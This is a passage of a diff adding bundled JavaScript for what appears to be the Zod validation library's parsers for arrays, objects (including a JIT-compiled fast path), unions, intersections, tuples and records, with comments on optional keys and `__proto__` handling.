+        const input = payload.value;
+        if (!Array.isArray(input)) {
+            payload.issues.push({
+                expected: "array",
+                code: "invalid_type",
+                input,
+                inst,
+            });
+            return payload;
+        }
+        payload.value = memo ? memo.alloc(inst, payload, Array(input.length), ctx) : Array(input.length);
+        const proms = [];
+        const abortEarly = ctx?.abortEarly;
+        for (let i = 0; i < input.length; i++) {
+            const item = input[i];
+            const result = def.element._zod.run({
+                value: item,
+                issues: [],
+            }, ctx);
+            if (result instanceof Promise) {
+                proms.push(result.then((result) => handleArrayResult(result, payload, i)));
+            }
+            else {
+                handleArrayResult(result, payload, i);
+                // the element's payload is authoritative here, since handleArrayResult forwards every issue; an object's is not, because it drops a failed absent optional
+                if (abortEarly && result.issues.length !== 0 && aborted(result))
+                    break;
+            }
+        }
+        if (proms.length) {
+            return Promise.all(proms).then(() => payload);
+        }
+        return payload; //handleArrayResultsAsync(parseResults, final);
+    };
+    capSize(inst, arraySize);
+});
+function handlePropertyResult(result, final, key, input, optin, optout) {
+    const isPresent = key in input;
+    const isOptionalOut = optout === "optional";
+    // The middle rung means "absence permitted, nothing supplied in its place", so an absent key contributes nothing — whatever the schema made of `undefined` is invented, not substituted. Only `optional` reaches this with a value: `defaulted` substitutes, and a schema that isn't optional-out has to keep the key.
+    if (!isPresent && isOptionalOut && optin === "optional") {
+        return;
+    }
+    if (result.issues.length) {
+        // For optional-in/out schemas, ignore errors on absent keys.
+        if (optin !== undefined && isOptionalOut && !isPresent) {
+            return;
+        }
+        final.issues.push(...prefixIssues(key, result.issues));
+    }
+    if (!isPresent && optin === undefined) {
+        if (!result.issues.length) {
+            final.issues.push({
+                code: "invalid_type",
+                expected: "nonoptional",
+                input: undefined,
+                path: [key],
+            });
+        }
+        return;
+    }
+    if (result.value === undefined) {
+        if (isPresent || (optin === "defaulted" && !isOptionalOut)) {
+            final.value[key] = undefined;
+        }
+    }
+    else {
+        final.value[key] = result.value;
+    }
+}
+// one shared instance; a fresh [] per schema cost 56 bytes retained
+const NO_SYMBOL_KEYS = [];
+function normalizeDef(def) {
+    const keys = Object.keys(def.shape);
+    const ownSymbols = Object.getOwnPropertySymbols(def.shape);
+    const symbolKeys = ownSymbols.length ? ownSymbols : NO_SYMBOL_KEYS;
+    // aliases `keys` when there are no symbols, so a string-only shape keeps one array
+    const allKeys = symbolKeys.length ? [...keys, ...symbolKeys] : keys;
+    for (const k of allKeys) {
+        if (!def.shape?.[k]?._zod?.traits?.has("$ZodType")) {
+            throw new Error(`Invalid element at key "${String(k)}": expected a Zod schema`);
+        }
+    }
+    const okeys = optionalKeys(def.shape);
+    return {
+        ...def,
+        allKeys,
+        symbolKeys,
+        // string-only: handleCatchall matches it against `for...in`, which never yields a symbol
+        keySet: new Set(keys),
+        numKeys: keys.length,
+        optionalKeys: new Set(okeys),
+    };
+}
+function handleCatchall(proms, input, payload, ctx, def, inst, abortEarly) {
+    const unrecognized = [];
+    const keySet = def.keySet;
+    const _catchall = def.catchall._zod;
+    const t = _catchall.def.type;
+    const optin = _catchall.optin;
+    const optout = _catchall.optout;
+    // starts at 0, not the current length: the shape phase already ran and may have aborted
+    let seen = 0;
+    for (const key in input) {
+        if (abortEarly && payload.issues.length !== seen) {
+            if (aborted(payload, seen))
+                break;
+            seen = payload.issues.length;
+        }
+        // Must precede the __proto__ branch: a declared key is not unrecognized, even though the shape loop deliberately strips __proto__ from the parsed output.
+        if (keySet.has(key))
+            continue;
+        // Don't copy an undeclared __proto__ into the result; assignment to a plain {} would replace the result prototype. But in strict mode it is still an unknown key, so report it before skipping.
+        if (key === "__proto__") {
+            if (t === "never")
+                unrecognized.push(key);
+            continue;
+        }
+        if (t === "never") {
+            unrecognized.push(key);
+            continue;
+        }
+        const r = _catchall.run({ value: input[key], issues: [] }, ctx);
+        if (r instanceof Promise) {
+            proms.push(r.then((r) => handlePropertyResult(r, payload, key, input, optin, optout)));
+        }
+        else {
+            handlePropertyResult(r, payload, key, input, optin, optout);
+        }
+    }
+    if (unrecognized.length) {
+        payload.issues.push({
+            code: "unrecognized_keys",
+            keys: unrecognized,
+            input,
+            inst,
+            // Describes the shape of the input, not the validity of the parsed value, so it never aborts. The parse still fails; the schema's own checks just get to run first, and an enclosing intersection can reconcile the key against a sibling operand.
+            continue: true,
+        });
+    }
+    if (!proms.length)
+        return payload;
+    return Promise.all(proms).then(() => {
+        return payload;
+    });
+}
+const $ZodObject = /*@__PURE__*/ $constructor("$ZodObject", (inst, def) => {
+    // requires cast because technically $ZodObject doesn't extend
+    $ZodType.init(inst, def);
+    const desc = Object.getOwnPropertyDescriptor(def, "shape");
+    // a cloned def carries its source's accessor, which knows the shape it answers from; adopting that keeps the clone's keys readable without running it
+    const sh = desc?.get ? desc.get.raw : (def.shape ?? {});
+    if (sh) {
+        // Freezes the shape on first read, so its getters resolve once and every later read sees the same schemas.
+        const get = () => {
+            const newSh = { ...sh };
+            Object.defineProperty(def, "shape", { value: newSh });
+            get.raw = newSh;
+            return newSh;
+        };
+        get.raw = sh;
+        Object.defineProperty(def, "shape", { get });
+    }
+    const _normalized = cached(() => normalizeDef(def));
+    defineLazyInternal(inst, "propValues", (zod) => {
+        const shape = zod.def.shape;
+        const propValues = {};
+        for (const key in shape) {
+            const field = shape[key]._zod;
+            if (field.values) {
+                if (!Object.prototype.hasOwnProperty.call(propValues, key)) {
+                    util_assignProp(propValues, key, new Set());
+                }
+                for (const v of field.values)
+                    propValues[key].add(v);
+                // An omittable slot reads back as undefined at a discriminator lookup, so it has to claim undefined: two options that can both omit the key are not discriminable on it.
+                if (field.optin !== undefined)
+                    propValues[key].add(undefined);
+            }
+        }
+        return propValues;
+    });
+    const isObject = util_isObject;
+    const catchall = def.catchall;
+    let value;
+    const memo = globalConfig.memoizer;
+    memo?.attach(inst);
+    inst._zod.parse = (payload, ctx) => {
+        value ?? (value = _normalized.value);
+        const input = payload.value;
+        if (!isObject(input)) {
+            payload.issues.push({
+                expected: "object",
+                code: "invalid_type",
+                input,
+                inst,
+            });
+            return payload;
+        }
+        payload.value = memo ? memo.alloc(inst, payload, {}, ctx) : {};
+        const proms = [];
+        const shape = value.shape;
+        const abortEarly = ctx?.abortEarly;
+        let seen = payload.issues.length;
+        for (const key of value.allKeys) {
+            if (abortEarly && payload.issues.length !== seen) {
+                if (aborted(payload, seen))
+                    break;
+                seen = payload.issues.length;
+            }
+            if (key === "__proto__")
+                continue;
+            const el = shape[key];
+            const optin = el._zod.optin;
+            const optout = el._zod.optout;
+            const r = el._zod.run({ value: input[key], issues: [] }, ctx);
+            if (r instanceof Promise) {
+                proms.push(r.then((r) => handlePropertyResult(r, payload, key, input, optin, optout)));
+            }
+            else {
+                handlePropertyResult(r, payload, key, input, optin, optout);
+            }
+        }
+        if (!catchall) {
+            return proms.length ? Promise.all(proms).then(() => payload) : payload;
+        }
+        return handleCatchall(proms, input, payload, ctx, _normalized.value, inst, abortEarly === true);
+    };
+});
+const $ZodObjectJIT = /*@__PURE__*/ $constructor("$ZodObjectJIT", (inst, def) => {
+    // requires cast because technically $ZodObject doesn't extend
+    $ZodObject.init(inst, def);
+    const superParse = inst._zod.parse;
+    const _normalized = cached(() => normalizeDef(def));
+    const memo = globalConfig.memoizer;
+    const generateFastpass = (shape) => {
+        const normalized = _normalized.value;
+        const syms = normalized.symbolKeys;
+        // a symbol has no source literal, so it is read as `syms[i]` off the closed-over scope
+        const doc = new Doc(["payload", "ctx"], { shape, inst, memo, syms });
+        const parseStr = (k) => `shape[${k}]._zod.run({ value: input[${k}], issues: [] }, ctx)`;
+        // prefixes in place, like util.prefixIssues. newResult must land before the early return: a catchall runs after this and would otherwise write onto the caller's input
+        const prefixStr = (id, k) => `
+          let ${id}_ab = false;
+          for (let i = 0; i < ${id}.issues.length; i++) {
+            const iss = ${id}.issues[i];
+            iss.path = iss.path ? [${k}, ...iss.path] : [${k}];
+            payload.issues.push(iss);
+            if (iss.continue !== true) ${id}_ab = true;
+          }
+          if (${id}_ab && ctx && ctx.abortEarly) {
+            payload.value = newResult;
+            return payload;
+          }`;
+        doc.write(`const input = payload.value;`);
+        const ids = Object.create(null);
+        let counter = 0;
+        for (const key of normalized.allKeys) {
+            ids[key] = `key_${counter++}`;
+        }
+        // A: preserve key order {
+        doc.write(memo ? `const newResult = memo.alloc(inst, payload, {}, ctx);` : `const newResult = {};`);
+        for (const key of normalized.allKeys) {
+            if (key === "__proto__")
+                continue;
+            const id = ids[key];
+            const k = typeof key === "symbol" ? `syms[${syms.indexOf(key)}]` : esc(key);
+            const isPresent = `${k} in input`;
+            const schema = shape[key];
+            const optin = schema?._zod?.optin;
+            const isOptionalIn = optin !== undefined;
+            const isOptionalOut = schema?._zod?.optout === "optional";
+            doc.write(`const ${id} = ${parseStr(k)};`);
+            if (isOptionalIn && isOptionalOut) {
+                // For optional-in/out schemas, ignore errors on absent keys — and, like the interpreted path, drop the value produced alongside them. The middle rung goes further: it permits absence without supplying anything in its place, so an absent key contributes nothing at all.
+                const assign = optin === "optional" ? `${id}_present` : `${id}.value !== undefined || ${id}_present`;
+                doc.write(`
+        const ${id}_present = ${isPresent};
+        if (!${id}.issues.length || ${id}_present) {
+          if (${id}.issues.length) {${prefixStr(id, k)}
+          }
+
+          if (${assign}) {
+            newResult[${k}] = ${id}.value;
+          }
+        }
+
+      `);
+            }
+            else if (!isOptionalIn) {
+                doc.write(`
+        const ${id}_present = ${isPresent};
+        if (${id}.issues.length) {${prefixStr(id, k)}
+        }
+        if (!${id}_present && !${id}.issues.length) {
+          payload.issues.push({
+            code: "invalid_type",
+            expected: "nonoptional",
+            input: undefined,
+            path: [${k}]
+          });
+          if (ctx && ctx.abortEarly) {
+            payload.value = newResult;
+            return payload;
+          }
+        }
+
+        if (${id}_present) {
+          newResult[${k}] = ${id}.value;
+        }
+
+      `);
+            }
+            else {
+                doc.write(`
+        if (${id}.issues.length) {${prefixStr(id, k)}
+        }
+      `);
+                if (optin === "defaulted") {
+                    doc.write(`newResult[${k}] = ${id}.value;`);
+                }
+                else {
+                    doc.write(`
+        if (${id}.value !== undefined || ${isPresent}) {
+          newResult[${k}] = ${id}.value;
+        }
+      `);
+                }
+            }
+        }
+        doc.write(`payload.value = newResult;`);
+        doc.write(`return payload;`);
+        // closing `shape` in is what pays: turbofan specializes the parser against that one shape object, so every `shape[k]._zod.run` folds to a known callee. as a parameter it stays a generic load and measures 13% slower even with the forwarding frame gone
+        return doc.compile();
+    };
+    let fastpass;
+    const isObject = util_isObject;
+    const jit = !globalConfig.jitless;
+    const allowsEval = util_allowsEval;
+    const fastEnabled = jit && allowsEval.value; // && !def.catchall;
+    const catchall = def.catchall;
+    let value;
+    inst._zod.parse = (payload, ctx) => {
+        value ?? (value = _normalized.value);
+        const input = payload.value;
+        if (!isObject(input)) {
+            payload.issues.push({
+                expected: "object",
+                code: "invalid_type",
+                input,
+                inst,
+            });
+            return payload;
+        }
+        if (jit && fastEnabled && ctx?.async === false && ctx.jitless !== true) {
+            // always synchronous
+            if (!fastpass)
+                fastpass = generateFastpass(def.shape);
+            payload = fastpass(payload, ctx);
+            if (!catchall)
+                return payload;
+            return handleCatchall([], input, payload, ctx, value, inst, ctx?.abortEarly === true);
+        }
+        return superParse(payload, ctx);
+    };
+});
+function handleUnionResults(results, final, inst, ctx) {
+    for (const result of results) {
+        if (result.issues.length === 0) {
+            final.value = result.value;
+            return final;
+        }
+    }
+    const nonaborted = results.filter((r) => !aborted(r));
+    if (nonaborted.length === 1) {
+        final.value = nonaborted[0].value;
+        return nonaborted[0];
+    }
+    final.issues.push({
+        code: "invalid_union",
+        input: final.value,
+        inst,
+        errors: results.map((result) => result.issues.map((iss) => finalizeIssue(iss, ctx, config()))),
+    });
+    return final;
+}
+const $ZodUnion = /*@__PURE__*/ $constructor("$ZodUnion", (inst, def) => {
+    $ZodType.init(inst, def);
+    defineLazyInternal(inst, "optin", (zod) => zod.def.options.some((o) => o._zod.optin === "defaulted")
+        ? "defaulted"
+        : zod.def.options.some((o) => o._zod.optin !== undefined)
+            ? "optional"
+            : undefined);
+    defineLazyInternal(inst, "optout", (zod) => zod.def.options.some((o) => o._zod.optout === "optional") ? "optional" : undefined);
+    defineLazyInternal(inst, "values", (zod) => {
+        if (zod.def.options.every((o) => o._zod.values)) {
+            return new Set(zod.def.options.flatMap((option) => Array.from(option._zod.values)));
+        }
+        return undefined;
+    });
+    defineLazyInternal(inst, "pattern", (zod) => {
+        if (zod.def.options.every((o) => o._zod.pattern)) {
+            const patterns = zod.def.options.map((o) => o._zod.pattern);
+            return new RegExp(`^(${patterns.map((p) => util_cleanRegex(p.source)).join("|")})$`);
+        }
+        return undefined;
+    });
+    const first = def.options.length === 1 ? def.options[0]._zod.run : null;
+    inst._zod.parse = (payload, ctx) => {
+        if (first) {
+            return first(payload, ctx);
+        }
+        let async = false;
+        const results = [];
+        for (const option of def.options) {
+            const result = option._zod.run({
+                value: payload.value,
+                issues: [],
+            }, ctx);
+            if (result instanceof Promise) {
+                results.push(result);
+                async = true;
+            }
+            else {
+                if (result.issues.length === 0)
+                    return result;
+                results.push(result);
+            }
+        }
+        if (!async)
+            return handleUnionResults(results, payload, inst, ctx);
+        return Promise.all(results).then((results) => {
+            return handleUnionResults(results, payload, inst, ctx);
+        });
+    };
+});
+function handleExclusiveUnionResults(results, final, inst, ctx) {
+    const matches = [];
+    for (let i = 0; i < results.length; i++) {
+        if (results[i].issues.length === 0)
+            matches.push(i);
+    }
+    if (matches.length === 1) {
+        final.value = results[matches[0]].value;
+        return final;
+    }
+    if (matches.length === 0) {
+        // No matches - same as regular union
+        final.issues.push({
+            code: "invalid_union",
+            input: final.value,
+            inst,
+            errors: results.map((result) => result.issues.map((iss) => util.finalizeIssue(iss, ctx, core.config()))),
+        });
+    }
+    else {
+        // Multiple matches - exclusive union failure
+        final.issues.push({
+            code: "invalid_union",
+            input: final.value,
+            inst,
+            errors: [],
+            inclusive: false,
+            matches,
+        });
+    }
+    return final;
+}
+const $ZodXor = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("$ZodXor", (inst, def) => {
+    $ZodUnion.init(inst, def);
+    def.inclusive = false;
+    const first = def.options.length === 1 ? def.options[0]._zod.run : null;
+    inst._zod.parse = (payload, ctx) => {
+        if (first) {
+            return first(payload, ctx);
+        }
+        let async = false;
+        const results = [];
+        for (const option of def.options) {
+            const result = option._zod.run({
+                value: payload.value,
+                issues: [],
+            }, ctx);
+            if (result instanceof Promise) {
+                results.push(result);
+                async = true;
+            }
+            else {
+                results.push(result);
+            }
+        }
+        if (!async)
+            return handleExclusiveUnionResults(results, payload, inst, ctx);
+        return Promise.all(results).then((results) => {
+            return handleExclusiveUnionResults(results, payload, inst, ctx);
+        });
+    };
+})));
+/** Returns the option whose discriminator claims `value`, or throws if ambiguous. */
+function getDiscriminatedOption(union, value) {
+    const internals = union._zod;
+    let map = internals.bag.optionsMap;
+    if (!map) {
+        map = discriminatorMap(internals.def);
+        internals.bag.optionsMap = map;
+    }
+    const option = map.get(value);
+    if (option === null)
+        throw new Error(`Ambiguous discriminator value "${String(value)}"`);
+    return option;
+}
+function discriminatorMap(def) {
+    const map = new Map();
+    for (const option of def.options) {
+        const values = option._zod.propValues?.[def.discriminator];
+        if (!values || values.size === 0)
+            throw new Error(`Invalid discriminated union option at index "${def.options.indexOf(option)}"`);
+        for (const value of values) {
+            if (map.has(value)) {
+                if (value !== undefined)
+                    throw new Error(`Duplicate discriminator value "${String(value)}"`);
+                // keep the collision marked so a later member cannot reclaim it
+                map.set(value, null);
+            }
+            else {
+                map.set(value, option);
+            }
+        }
+    }
+    return map;
+}
+const $ZodDiscriminatedUnion = 
+/*@__PURE__*/
+(/* unused pure expression or super */ null && (core.$constructor("$ZodDiscriminatedUnion", (inst, def) => {
+    def.inclusive = false;
+    $ZodUnion.init(inst, def);
+    const _super = inst._zod.parse;
+    util.defineLazyInternal(inst, "propValues", (zod) => {
+        const propValues = {};
+        let undefinedCount = 0;
+        for (const option of zod.def.options) {
+            const pv = option._zod.propValues;
+            if (!pv || Object.keys(pv).length === 0)
+                throw new Error(`Invalid discriminated union option at index "${zod.def.options.indexOf(option)}"`);
+            if (pv[zod.def.discriminator]?.has(undefined))
+                undefinedCount++;
+            for (const [k, v] of Object.entries(pv)) {
+                if (!Object.prototype.hasOwnProperty.call(propValues, k)) {
+                    util.assignProp(propValues, k, new Set());
+                }
+                for (const val of v) {
+                    propValues[k].add(val);
+                }
+            }
+        }
+        if (!zod.def.unionFallback && undefinedCount > 1)
+            propValues[zod.def.discriminator]?.delete(undefined);
+        return propValues;
+    });
+    // Checked now rather than in the lookup map below, so an option that lacks the discriminator fails at the `discriminatedUnion` call instead of on the first object parsed. Options whose shape cannot be enumerated without resolving it — pipes and lazies — are left to the map.
+    def.options.forEach((option, i) => {
+        const propShape = util.rawShape(option._zod.def);
+        if (propShape && !Object.prototype.hasOwnProperty.call(propShape, def.discriminator)) {
+            throw new Error(`Invalid discriminated union option at index "${i}"`);
+        }
+    });
+    const disc = util.cached(() => discriminatorMap(def));
+    inst._zod.parse = (payload, ctx) => {
+        const input = payload.value;
+        if (!util.isObject(input)) {
+            payload.issues.push({
+                code: "invalid_type",
+                expected: "object",
+                input,
+                inst,
+            });
+            return payload;
+        }
+        const value = input?.[def.discriminator];
+        const opt = disc.value.get(value);
+        // forward metadata cannot choose an encoder for an absent tag
+        if (opt && (value !== undefined || ctx.direction !== "backward")) {
+            return opt._zod.run(payload, ctx);
+        }
+        // Fall back to union matching when the fast discriminator path fails:
+        // - explicitly enabled via unionFallback, or
+        // - during backward direction (encode), since codec-based discriminators have different values in forward vs backward directions
+        if (def.unionFallback || ctx.direction === "backward") {
+            return _super(payload, ctx);
+        }
+        // no matching discriminator
+        payload.issues.push({
+            code: "invalid_union",
+            errors: [],
+            note: "No matching discriminator",
+            discriminator: def.discriminator,
+            options: Array.from(disc.value.keys()).filter((value) => disc.value.get(value) !== null),
+            input,
+            path: [def.discriminator],
+            inst,
+        });
+        return payload;
+    };
+})));
+const $ZodIntersection = /*@__PURE__*/ $constructor("$ZodIntersection", (inst, def) => {
+    $ZodType.init(inst, def);
+    inst._zod.parse = (payload, ctx) => {
+        const input = payload.value;
+        const left = def.left._zod.run({ value: input, issues: [] }, ctx);
+        const right = def.right._zod.run({ value: input, issues: [] }, ctx);
+        const async = left instanceof Promise || right instanceof Promise;
+        if (async) {
+            return Promise.all([left, right]).then(([left, right]) => {
+                return handleIntersectionResults(payload, left, right);
+            });
+        }
+        return handleIntersectionResults(payload, left, right);
+    };
+});
+function mergeValues(a, b) {
+    // const aType = parse.t(a);
+    // const bType = parse.t(b);
+    if (a === b) {
+        return { valid: true, data: a };
+    }
+    if (a instanceof Date && b instanceof Date && +a === +b) {
+        return { valid: true, data: a };
+    }
+    if (isPlainObject(a) && isPlainObject(b)) {
+        const bKeys = Object.keys(b);
+        const sharedKeys = Object.keys(a).filter((key) => bKeys.indexOf(key) !== -1);
+        const newObj = { ...a, ...b };
+        if (Object.prototype.hasOwnProperty.call(newObj, "__proto__"))
+            delete newObj.__proto__;
+        for (const key of sharedKeys) {
+            if (key === "__proto__")
+                continue;
+            const sharedValue = mergeValues(a[key], b[key]);
+            if (!sharedValue.valid) {
+                return {
+                    valid: false,
+                    mergeErrorPath: [key, ...sharedValue.mergeErrorPath],
+                };
+            }
+            newObj[key] = sharedValue.data;
+        }
+        return { valid: true, data: newObj };
+    }
+    if (Array.isArray(a) && Array.isArray(b)) {
+        if (a.length !== b.length) {
+            return { valid: false, mergeErrorPath: [] };
+        }
+        const newArray = [];
+        for (let index = 0; index < a.length; index++) {
+            const itemA = a[index];
+            const itemB = b[index];
+            const sharedValue = mergeValues(itemA, itemB);
+            if (!sharedValue.valid) {
+                return {
+                    valid: false,
+                    mergeErrorPath: [index, ...sharedValue.mergeErrorPath],
+                };
+            }
+            newArray.push(sharedValue.data);
+        }
+        return { valid: true, data: newArray };
+    }
+    return { valid: false, mergeErrorPath: [] };
+}
+function handleIntersectionResults(result, left, right) {
+    // Track which side(s) reject each key. A key rejection is reported only when BOTH sides reject it, so a key owned by one branch survives the other's key schema. strictObject reports these as unrecognized_keys; a record with an open key schema reports one invalid_key per key.
+    const unrecKeys = new Map();
+    let unrecIssue;
+    const keyIssues = new Map();
+    const collect = (iss, side) => {
+        let keys;
+        if (iss.code === "unrecognized_keys" && !iss.path?.length) {
+            unrecIssue ?? (unrecIssue = iss);
+            keys = iss.keys;
+        }
+        else if (iss.code === "invalid_key" && iss.origin === "record" && iss.path?.length === 1) {
+            const k = String(iss.path[0]);
+            if (!keyIssues.has(k))
+                keyIssues.set(k, iss);
+            keys = [k];
+        }
+        else {
+            return false;
+        }
+        for (const k of keys) {
+            if (!unrecKeys.has(k))
+                unrecKeys.set(k, {});
+            unrecKeys.get(k)[side] = true;
+        }
+        return true;
+    };
+    for (const iss of left.issues) {
+        if (!collect(iss, "l"))
+            result.issues.push(iss);
+    }
+    for (const iss of right.issues) {
+        if (!collect(iss, "r"))
+            result.issues.push(iss);
+    }
+    // Report only keys rejected by BOTH sides
+    const bothKeys = [...unrecKeys].filter(([, f]) => f.l && f.r).map(([k]) => k);
+    if (bothKeys.length) {
+        const aggregated = unrecIssue ? bothKeys.filter((k) => unrecIssue.keys.includes(k)) : [];
+        if (aggregated.length)
+            result.issues.push({ ...unrecIssue, keys: aggregated });
+        for (const k of bothKeys) {
+            if (!aggregated.includes(k) && keyIssues.has(k))
+                result.issues.push(keyIssues.get(k));
+        }
+    }
+    const merged = mergeValues(left.value, right.value);
+    if (!merged.valid) {
+        if (aborted(result))
+            return result;
+        throw new Error(`Unmergable intersection. Error path: ` + `${JSON.stringify(merged.mergeErrorPath)}`);
+    }
+    result.value = merged.data;
+    return result;
+}
+const $ZodTuple = /*@__PURE__*/ $constructor("$ZodTuple", (inst, def) => {
+    $ZodType.init(inst, def);
+    const items = def.items;
+    const memo = globalConfig.memoizer;
+    memo?.attach(inst);
+    inst._zod.parse = (payload, ctx) => {
+        const input = payload.value;
+        if (!Array.isArray(input)) {
+            payload.issues.push({
+                input,
+                inst,
+                expected: "tuple",
+                code: "invalid_type",
+            });
+            return payload;
+        }
+        payload.value = memo ? memo.alloc(inst, payload, [], ctx) : [];
+        const proms = [];
+        const optinStart = getTupleOptStart(items, "optin");
+        const optoutStart = getTupleOptStart(items, "optout");
+        if (!def.rest) {
+            if (input.length < optinStart) {
+                payload.issues.push({
+                    code: "too_small",
+                    minimum: optinStart,
+                    inclusive: true,
+                    input,
+                    inst,
+                    origin: "array",
+                });
+                return payload;
+            }
+            if (input.length > items.length) {
+                payload.issues.push({
+                    code: "too_big",
+                    maximum: items.length,
+                    inclusive: true,
+                    input,
+                    inst,
+                    origin: "array",
+                });
+            }
+        }
+        // Run every item in parallel, collecting results into an indexed array. The post-processing in `handleTupleResults` walks them in order so it can decide whether an absent optional-output error can truncate the tail or must be reported to preserve required output.
+        const itemResults = new Array(items.length);
+        // only tracked when there is a rest loop to skip
+        const abortEarly = def.rest ? ctx?.abortEarly : undefined;
+        let itemAborted = false;
+        for (let i = 0; i < items.length; i++) {
+            const r = items[i]._zod.run({ value: input[i], issues: [] }, ctx);
+            if (r instanceof Promise) {
+                proms.push(r.then((rr) => {
+                    itemResults[i] = rr;
+                }));
+            }
+            else {
+                itemResults[i] = r;
+                if (abortEarly && !itemAborted && r.issues.length)
+                    itemAborted = aborted(r);
+            }
+        }
+        // sound because rest is non-empty exactly when every fixed index is present, the one case handleTupleResults cannot discard an item's issues
+        if (def.rest && !itemAborted) {
+            let i = items.length - 1;
+            const rest = input.slice(items.length);
+            let seen = payload.issues.length;
+            for (const el of rest) {
+                if (abortEarly && payload.issues.length !== seen) {
+                    if (aborted(payload, seen))
+                        break;
+                    seen = payload.issues.length;
+                }
+                i++;
+                const result = def.rest._zod.run({ value: el, issues: [] }, ctx);
+                if (result instanceof Promise) {
+                    proms.push(result.then((r) => handleTupleResult(r, payload, i)));
+                }
+                else {
+                    handleTupleResult(result, payload, i);
+                }
+            }
+        }
+        if (proms.length) {
+            return Promise.all(proms).then(() => handleTupleResults(itemResults, payload, items, input, optoutStart));
+        }
+        return handleTupleResults(itemResults, payload, items, input, optoutStart);
+    };
+});
+function getTupleOptStart(items, key) {
+    for (let i = items.length - 1; i >= 0; i--) {
+        // optin is a three-rung ladder so any rung above `undefined` permits an absent slot; optout stays two-valued.
+        const omittable = key === "optin" ? items[i]._zod.optin !== undefined : items[i]._zod.optout === "optional";
+        if (!omittable)
+            return i + 1;
+    }
+    return 0;
+}
+function handleTupleResult(result, final, index) {
+    if (result.issues.length) {
+        final.issues.push(...prefixIssues(index, result.issues));
+    }
+    final.value[index] = result.value;
+}
+function handleTupleResults(itemResults, final, items, input, optoutStart) {
+    // Walk results in order. Mirror $ZodObject's swallow-on-absent-optional rule, but only after `optoutStart`: the first index where the output tuple tail can be absent.
+    for (let i = 0; i < items.length; i++) {
+        const r = itemResults[i];
+        const isPresent = i < input.length;
+        // The array analog of `handlePropertyResult`'s absent-key early return: the middle rung permits absence without supplying anything in its place, so the tail truncates here instead of materializing whatever the item made of `undefined`.
+        if (!isPresent && i >= optoutStart && items[i]._zod.optin === "optional") {
+            final.value.length = i;
+            break;
+        }
+        if (r.issues.length) {
+            if (!isPresent && i >= optoutStart) {
+                final.value.length = i;
+                break;
+            }
+            final.issues.push(...prefixIssues(i, r.issues));
+        }
+        final.value[i] = r.value;
+    }
+    // Drop trailing slots that produced `undefined` for absent input
+    // (the array analog of an absent optional key on an object). The
+    // `i >= input.length` floor is critical: an explicit `undefined`
+    // *inside* the input must be preserved even when the schema is
+    // optional-out (e.g. `z.string().or(z.undefined())` accepting an
+    // explicit undefined value).
+    for (let i = final.value.length - 1; i >= input.length; i--) {
+        if (items[i]._zod.optout === "optional" && final.value[i] === undefined) {
+            final.value.length = i;
+        }
+        else {
+            break;
+        }
+    }
+    return final;
+}
+const $ZodRecord = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("$ZodRecord", (inst, def) => {
+    $ZodType.init(inst, def);
+    const memo = core.globalConfig.memoizer;
+    memo?.attach(inst);
+    inst._zod.parse = (payload, ctx) => {
+        const input = payload.value;
+        if (!util.isPlainObject(input)) {
+            payload.issues.push({
+                expected: "record",
+                code: "invalid_type",
+                input,
+                inst,
+            });
+            return payload;
+        }
+        // no guard in either loop below: a record's invalid_key aborts but an enclosing intersection can reconcile it, so a stopped loop hides keys the sibling does not own and the intersection then rejects nothing
+        const proms = [];
+        const values = def.keyType._zod.values;
+        if (values && !def.partial) {
+            payload.value = memo ? memo.alloc(inst, payload, {}, ctx) : {};
+            const recordKeys = new Set();
+            for (const key of values) {
+                if (typeof key === "string" || typeof key === "number" || typeof key === "symbol") {
+                    recordKeys.add(typeof key === "number" ? key.toString() : key);
+                    // A declared __proto__ is stripped but is not an unrecognized key.
+                    if (key === "__proto__")
+                        continue;
+                    const keyResult = def.keyType._zod.run({ value: key, issues: [] }, ctx);
+                    if (keyResult instanceof Promise) {
+                        throw new Error("Async schemas not supported in object keys currently");
+                    }
+                    if (keyResult.issues.length) {
+                        payload.issues.push({
+                            code: "invalid_key",
+                            origin: "record",
+                            issues: keyResult.issues.map((iss) => util.finalizeIssue(iss, ctx, core.config())),
+                            input: key,
+                            path: [key],
+                            inst,
+                        });
+                        continue;
+                    }
+                    const outKey = keyResult.value;
+                    if (outKey === "__proto__")
+                        continue;
+                    const result = def.valueType._zod.run({ value: input[key], issues: [] }, ctx);
+                    if (result instanceof Promise) {
+                        proms.push(result.then((result) => {
+                            if (result.issues.length) {
+                                payload.issues.push(...util.prefixIssues(key, result.issues));
+                            }
+                            payload.value[outKey] = result.value;
+                        }));
+                    }
+                    else {
+                        if (result.issues.length) {
+                            payload.issues.push(...util.prefixIssues(key, result.issues));
+                        }
+                        payload.value[outKey] = result.value;
+                    }
+                }
+            }
+            let unrecognized;
+            for (const key in input) {
+                if (!recordKeys.has(key)) {
+                    if (def.mode === "loose") {
+                        // skip __proto__ so it can't replace the result prototype via the assignment setter on the plain {} we build into
+                        if (key === "__proto__")
+                            continue;
+                        payload.value[key] = input[key];
+                    }
+                    else {
+                        unrecognized = unrecognized ?? [];
+                        unrecognized.push(key);
+                    }
+                }
+            }
+            if (unrecognized && unrecognized.length > 0) {
+                payload.issues.push({
+                    code: "unrecognized_keys",
+                    input,
+                    inst,
+                    keys: unrecognized,
+                    continue: true,
+                });
+            }
+        }
+        else {
+            payload.value = memo ? memo.alloc(inst, payload, {}, ctx) : {};
+            // An enumerable key schema declares which keys the record owns, so a key outside the set is unrecognized. A non-enumerable one (regex, refine) is a constraint every key must satisfy, so a failing key is invalid. Only the former is reconcilable against the other side of an intersection.
+            let unrecognized;
+            // Reflect.ownKeys for Symbol-key support; filter non-enumerable to match z.object()
+            for (const key of Reflect.ownKeys(input)) {
+                if (key === "__proto__")
+                    continue;
+                if (!Object.prototype.propertyIsEnumerable.call(input, key))
+                    continue;
+                let keyResult = def.keyType._zod.run({ value: key, issues: [] }, ctx);
+                if (keyResult instanceof Promise) {
+                    throw new Error("Async schemas not supported in object keys currently");
+                }
+                // Numeric string fallback: if key is a numeric string and failed, retry with Number(key). This handles z.number(), z.literal([1, 2, 3]), and unions containing numeric literals
+                const checkNumericKey = typeof key === "string" && regexes.number.test(key) && keyResult.issues.length;
+                if (checkNumericKey) {
+                    const retryResult = def.keyType._zod.run({ value: Number(key), issues: [] }, ctx);
+                    if (retryResult instanceof Promise) {
+                        throw new Error("Async schemas not supported in object keys currently");
+                    }
+                    if (retryResult.issues.length === 0) {
+                        keyResult = retryResult;
+                    }
+                }
+                if (keyResult.issues.length) {
